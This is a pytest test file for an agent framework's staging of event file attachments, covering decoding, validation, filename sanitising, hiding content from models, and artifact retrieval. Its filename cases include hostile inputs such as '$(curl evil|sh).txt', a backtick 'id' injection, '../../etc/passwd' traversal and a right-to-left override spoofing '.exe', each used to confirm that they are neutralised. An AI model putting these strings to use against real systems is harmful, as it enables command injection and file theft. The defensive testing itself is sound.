"""Files of events: what is one, what it is called, what models see of it, and what is staged.

Examines the internals of artifacts.local on purpose.
"""

from __future__ import annotations

import base64
import dataclasses
import json
from collections import namedtuple
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from pydantic import BaseModel

from flink_skills import Record
from flink_skills.agents import event_files, event_text, stage_files, without_data
from flink_skills.artifacts import Artifact, ArtifactError, ArtifactStore, owner_of
from flink_skills.artifacts.artifact_store import LocalFolder
from flink_skills.errors import ExecutionError
from flink_skills.execution import Workspace, WorkspaceManager
from flink_skills.options import SkillConfig
from flink_skills.tools import SkillState, artifacts_effect
from tests.kit.growth import grows_linearly

SECRET = b"\x00\x01bytes that no model reads\xff"
CODED = base64.b64encode(SECRET).decode()
OWNER = owner_of("agent", '"k"')


@pytest.fixture
def workspace(tmp_path: Path) -> Iterator[Workspace]:
    manager = WorkspaceManager(tmp_path / "workspaces")
    yield manager.for_key("k")
    manager.close()


@pytest.fixture
def store(tmp_path: Path) -> ArtifactStore:
    store = ArtifactStore.open(SkillConfig({"skills.artifacts.dir": str(tmp_path / "artifacts")}))
    assert store is not None
    return store


def test_a_long_name_is_shortened_in_linear_time() -> None:
    def named(name: str) -> None:
        [file] = event_files({"files": [{"name": f"report{name}.csv", "text": "a"}]})
        assert file.name.startswith("report")
        assert file.name.endswith(".csv")

    assert grows_linearly(named, lambda size: "x" * size, 1_000_000)
    assert grows_linearly(named, lambda size: "\u0301\u0316" * (size // 2), 100_000)


def staged_as(*entries: Any) -> list[str]:
    return [file.name for file in event_files({"files": list(entries)})]


@pytest.mark.parametrize(
    ("entry", "data"),
    [
        ({"data": SECRET}, SECRET),
        ({"data": bytearray(SECRET)}, SECRET),
        ({"data": memoryview(SECRET)}, SECRET),
        ({"data": CODED}, SECRET),
        ({"data": f" {CODED[:8]}\n{CODED[8:]} "}, SECRET),
        ({"data": f"data:application/x-a;charset=x;base64,{CODED}"}, SECRET),
        ({"data": ""}, b""),
        ({"text": "für"}, "für".encode()),
        ({"text": "\ud800"}, b"?"),
        ({"data": SECRET, "text": None, "uri": None}, SECRET),
        ({"data": SECRET, "size": 17, "anything": [1]}, SECRET),
    ],
)
@pytest.mark.row("F11")
def test_contents(entry: dict[str, Any], data: bytes) -> None:
    [file] = event_files({"files": [entry]})
    assert (file.data, file.problem) == (data, "")


@pytest.mark.parametrize(
    ("entry", "problem"),
    [
        (3, "an entry is int"),
        ("a.txt", "an entry is str"),
        (None, "an entry is NoneType"),
        ({}, "no content"),
        ({"name": "a"}, "no content"),
        ({"data": SECRET, "text": "x"}, "data and text"),
        ({"data": "not base64!"}, "not valid base64"),
        ({"data": "YWJj=YWJj"}, "not valid base64"),
        ({"data": "ü"}, "not valid base64"),
        ({"data": [1, 2]}, "the data is list"),
        ({"data": {"x": 1}}, "the data is dict"),
        ({"text": b"x"}, "the text is bytes"),
        ({"uri": "ftp://me:SECRET@example.org/a"}, "is not allowed in events"),
        ({"uri": "host:///etc/passwd"}, "is not allowed in events"),
        ({"uri": "workspace://out/a"}, "is not allowed in events"),
        ({"uri": "artifact://../x"}, "'..'"),
        ({"uri": 7}, "the uri is int"),
        ({"uri": f"https://h.example/{'a' * 5000}"}, "more than 4096 characters"),
        ({"uri": "s3://bucket/a", "sha256": "abc"}, "64 hexadecimal digits"),
        ({"uri": "s3://bucket/a", "text": "x"}, "text and uri"),
    ],
)
@pytest.mark.row("F11")
def test_entries_that_cannot_be_used_are_told(entry: Any, problem: str, workspace: Workspace) -> None:
    event = {"files": [{"name": "good.txt", "text": "good"}, entry]}
    good, bad = event_files(event)
    assert good.problem == ""
    assert problem in bad.problem
    assert without_data(event)["files"][1]["error"] == bad.problem
    assert json.dumps(without_data(event))
    records = stage_files(workspace, (good, bad), None, OWNER, None)
    assert records[0]["name"] == "work/inputs/good.txt"
    assert records[1]["error"] == bad.problem
    assert "SECRET" not in bad.problem
    assert [path.name for path in workspace.inputs_dir.iterdir()] == ["good.txt"]


@pytest.mark.parametrize(
    "event",
    [
        None,
        7,
        "files",
        b"files",
        {},
        {"files": None},
        {"files": 12},
        {"files": []},
        {"files": ["a.txt", "b.txt"]},
        {"files": {"a.txt": "b"}},
        {"files": [{"name": "a.txt", "size": 3}]},
        {"files": [{"uri": "https://example.org", "title": "x"}]},
        {"files": [{"text": "hello", "from": "me"}]},
        {"files": [{"data": {"rows": 3}}]},
        {"other": [{"data": CODED}]},
        [{"data": CODED}],
        object(),
    ],
)
def test_what_is_the_events_own_is_left_alone(event: Any) -> None:
    assert event_files(event) == ()
    assert without_data(event) is event


@dataclasses.dataclass
class Mail:
    subject: str
    files: list[Any]


class Upload(BaseModel):
    name: str
    data: bytes


class Ticket(BaseModel):
    subject: str
    files: list[Upload]


class Plain:
    def __init__(self, **fields: Any) -> None:
        vars(self).update(fields)


FILE = {"name": "a.bin", "data": SECRET}


@pytest.mark.parametrize(
    "event",
    [
        {"subject": "s", "files": [FILE]},
        {"subject": "s", "files": (FILE,)},
        {"subject": "s", "files": FILE},
        Record(subject="s", files=[Record(FILE)]),
        Mail("s", [FILE]),
        Mail("s", [Plain(**FILE)]),
        Ticket(subject="s", files=[Upload(name="a.bin", data=SECRET)]),
        Plain(subject="s", files=[Upload(name="a.bin", data=SECRET)]),
        namedtuple("Row", ["subject", "files"])("s", [FILE]),
    ],
)
@pytest.mark.row("F11")
def test_models_see_what_is_there_and_not_what_is_in_it(event: Any) -> None:
    shown = {"name": "work/inputs/a.bin", "mime_type": "application/octet-stream", "size_bytes": len(SECRET)}
    assert without_data(event) == {"subject": "s", "files": [shown]}
    text = event_text(without_data(event))
    assert "no model reads" not in text
    assert CODED not in text


def test_another_field() -> None:
    event = {"files": [1], "uploads": [{"text": "x"}]}
    assert [file.name for file in event_files(event, "uploads")] == ["upload_1"]
    assert without_data(event, "uploads")["files"] == [1]


def test_there_is_an_end_of_files(workspace: Workspace) -> None:
    files = event_files({"files": [{"text": str(number)} for number in range(1000)]})
    assert len(files) == 257
    assert "744 more files" in files[-1].problem
    assert len(without_data({"files": [{"text": "x"}] * 1000})["files"]) == 257


@pytest.mark.parametrize(
    ("original", "name"),
    [
        ("a.txt", "a.txt"),
        ("Übersicht 2024 (1).csv", "Übersicht_2024_1_.csv"),
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\me\\a.txt", "a.txt"),
        ("dir/", "dir"),
        (".bashrc", "bashrc"),
        ("-rf", "rf"),
        ("--help", "help"),
        ("$(curl evil|sh).txt", "_curl_evil_sh_.txt"),
        ("`id`;'\"\n.txt", "_id_.txt"),
        ("a\0b", "a_b"),
        ("\ud800.txt", "_.txt"),
        ("archive.tar.gz", "archive.tar.gz"),
        ("name.", "name"),
        ("\u202egnp.exe", "_gnp.exe"),
        ("日本語.txt", "日本語.txt"),
        ("e\u0301.txt", "\u00e9.txt"),
        ("x" * 300 + ".csv", "x" * 116 + ".csv"),
        ("é" * 100, "é" * 60),
        ("a." + "y" * 300, "a." + "y" * 118),
        ("..", "upload_1"),
        ("", "upload_1"),
        ("///", "upload_1"),
        ("?*", "upload_1"),
    ],
)
@pytest.mark.row("F11")
def test_names(original: str, name: str) -> None:
    assert staged_as({"name": original, "text": "x"}) == [name]


@pytest.mark.row("F11")
def test_names_that_are_taken_get_a_number() -> None:
    names = ["a.tar.gz", "dir/a.tar.gz", "a.tar.gz", "event.json", "a-2.tar.gz", "noend", "noend"]
    entries = [{"name": name, "text": "x"} for name in names]
    assert staged_as(*entries) == [
        *("a.tar.gz", "a-2.tar.gz", "a-3.tar.gz", "event-2.json", "a-2-2.tar.gz", "noend", "noend-2"),
    ]
    assert staged_as({"text": "x"}, {"name": 7, "text": "x"}, {"name": "upload_4", "text": "x"}, {"text": "x"}) == [
        *("upload_1", "upload_2", "upload_4", "upload_4-2")
    ]
    [file] = event_files({"files": [{"name": "conf", "text": "x"}]}, taken={"conf"})
    assert file.name == "conf-2"
    assert without_data({"files": [{"name": "conf", "text": "x"}]}, taken={"conf"})["files"][0] == {
        "name": "work/inputs/conf-2",
        "original_name": "conf",
        "mime_type": "text/plain",
        "size_bytes": 1,
    }


def test_names_are_shown_without_tricks() -> None:
    [file] = event_files({"files": [{"name": "a\u202eb\n" + "x" * 1000, "text": "x"}]})
    assert file.original_name.startswith("a\\u202eb\\nxxx")
    assert len(file.original_name) < 250


@pytest.mark.row("F11")
def test_staging(workspace: Workspace) -> None:
    event = {
        "files": [
            {"name": "table.csv", "text": "a,b\n"},
            {"name": "dir/pic ture", "data": CODED, "mime_type": "image/x-own"},
            {"data": b"%PDF-1.7"},
        ]
    }
    records = stage_files(workspace, event_files(event), None, OWNER, None)
    assert records == [
        {"name": "work/inputs/table.csv", "original_name": "table.csv", "mime_type": "text/csv", "size_bytes": 4},
        {
            "name": "work/inputs/pic_ture",
            "original_name": "dir/pic ture",
            "mime_type": "image/x-own",
            "size_bytes": len(SECRET),
        },
        {
            "name": "work/inputs/upload_3",
            "original_name": "upload_3",
            "mime_type": "application/pdf",
            "size_bytes": 8,
        },
    ]
    assert (workspace.inputs_dir / "pic_ture").read_bytes() == SECRET
    noted = json.loads((workspace.root / "metadata.json").read_text())["inputs"]
    assert [(entry["from"], entry["to"]) for entry in noted] == [("event://", record["name"]) for record in records]


def test_no_files_need_no_workspace(workspace: Workspace) -> None:
    assert stage_files(workspace, (), None, OWNER, None) == []
    assert not workspace.root.exists()


def test_what_commands_left_in_the_place(workspace: Workspace) -> None:
    workspace.ensure()
    (workspace.inputs_dir / "a.txt" / "inner").mkdir(parents=True)
    (workspace.inputs_dir / "b.txt").symlink_to(workspace.root / "metadata.json")
    files = event_files({"files": [{"name": name, "text": "new"} for name in ("a.txt", "b.txt")]})
    assert [record.get("error") for record in stage_files(workspace, files, None, OWNER, None)] == [None, None]
    assert [(workspace.inputs_dir / name).read_text() for name in ("a.txt", "b.txt")] == ["new", "new"]
    assert json.loads((workspace.root / "metadata.json").read_text())["version"] == 1


@pytest.mark.row("F11")
def test_artifacts(workspace: Workspace, store: ArtifactStore) -> None:
    old = store.save(OWNER, "reports/may.csv", b"old", "text/csv")
    new = store.save(OWNER, "reports/may.csv", b"newest", "text/csv")
    event = {
        "files": [
            {"uri": "artifact://reports/may.csv@"},
            {"uri": old.ref, "name": "before.csv"},
            {"uri": "artifact://none"},
        ]
    }
    assert without_data(event)["files"] == [
        {"name": "work/inputs/may.csv", "uri": "artifact://reports/may.csv"},
        {"name": "work/inputs/before.csv", "uri": old.ref},
        {"name": "work/inputs/none", "uri": "artifact://none"},
    ]
    files = event_files(event)
    first, second, third = stage_files(workspace, files, store, OWNER, SkillState())
    assert first == {
        "name": "work/inputs/may.csv",
        "original_name": "may.csv",
        "mime_type": "text/csv",
        "size_bytes": 6,
    }
    assert (second["name"], second["size_bytes"]) == ("work/inputs/before.csv", 3)
    assert "no artifact 'none'" in third["error"]
    noted = json.loads((workspace.root / "metadata.json").read_text())["inputs"]
    assert [(entry["from"], entry["resolved"], entry["version"]) for entry in noted] == [
        ("artifact://reports/may.csv", new.ref, new.version),
        (old.ref, old.ref, old.version),
    ]
    # What the conversation saved last is its own, whatever was saved since by a try that failed.
    state = SkillState()
    state.apply(artifacts_effect("call", [("reports/may.csv", old.version)]))
    assert stage_files(workspace, files[:1], store, OWNER, state)[0]["size_bytes"] == 3
    assert "keeps no artifacts" in stage_files(workspace, files[:1], None, OWNER, None)[0]["error"]
    other = owner_of("agent", '"other"')
    assert "no artifact" in stage_files(workspace, files[:1], store, other, None)[0]["error"]


def test_a_store_that_cannot_be_reached_for_now(workspace: Workspace) -> None:
    class Gone(ArtifactStore):
        def load(self, owner: str, name: str, version: str | None = None) -> tuple[Artifact, bytes]:
            raise ArtifactError("artifact store s3://x: the server is unreachable", "unavailable", retryable=True)

    files = event_files({"files": [{"uri": "artifact://a"}]})
    with pytest.raises(ExecutionError, match="the server is unreachable"):
        stage_files(workspace, files, Gone(LocalFolder("/nowhere"), 1), OWNER, None)


def test_a_workspace_that_cannot_be_made(tmp_path: Path) -> None:
    (tmp_path / "file").touch()
    workspaces = WorkspaceManager(tmp_path / "file" / "w")
    with pytest.raises(ExecutionError, match=r"the folder of workspaces .* cannot be created"):
        stage_files(workspaces.for_key("k"), event_files({"files": [{"text": "x"}]}), None, OWNER, None)
